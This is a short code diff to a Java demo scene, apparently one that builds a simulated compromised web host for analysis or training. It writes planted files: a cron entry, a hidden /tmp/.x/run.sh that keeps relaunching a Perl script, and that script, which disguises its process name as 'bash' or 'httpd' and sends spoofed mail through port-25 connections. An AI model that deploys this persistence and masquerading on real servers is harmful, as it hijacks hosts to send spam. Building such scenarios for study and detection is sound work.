@@ -77,7 +77,7 @@ final class HostScene implements DemoScene {
     s.mode("/var/spool/cron/apache", "rw-------");
     s.write("/tmp/.x/run.sh", "#!/bin/sh\ncd /tmp\npgrep -x bash >/dev/null || perl /tmp/.x/bash >/dev/null 2>&1 &\n"
         + "pgrep -x httpd -u apache -f '^httpd$' >/dev/null || perl /tmp/.x/bash httpd >/dev/null 2>&1 &\n", planted);
-    s.write("/tmp/.x/bash", "use IO::Socket::INET;\n$0 = $ARGV[0] || 'bash';\nfor my $mx (@mx) {\n"
+    s.write("/tmp/.x/bash", "#!/usr/bin/perl\nuse IO::Socket::INET;\n$0 = $ARGV[0] || 'bash';\nfor my $mx (@mx) {\n"
         + "  my $s = IO::Socket::INET->new(PeerAddr => $mx, PeerPort => 25) or next;\n"
         + "  print $s \"MAIL FROM:<info\\@" + SHOP_DOMAIN + ">\\r\\n\";\n}\n", planted);
     s.mode("/tmp/.x/run.sh", "rwxr-xr-x");
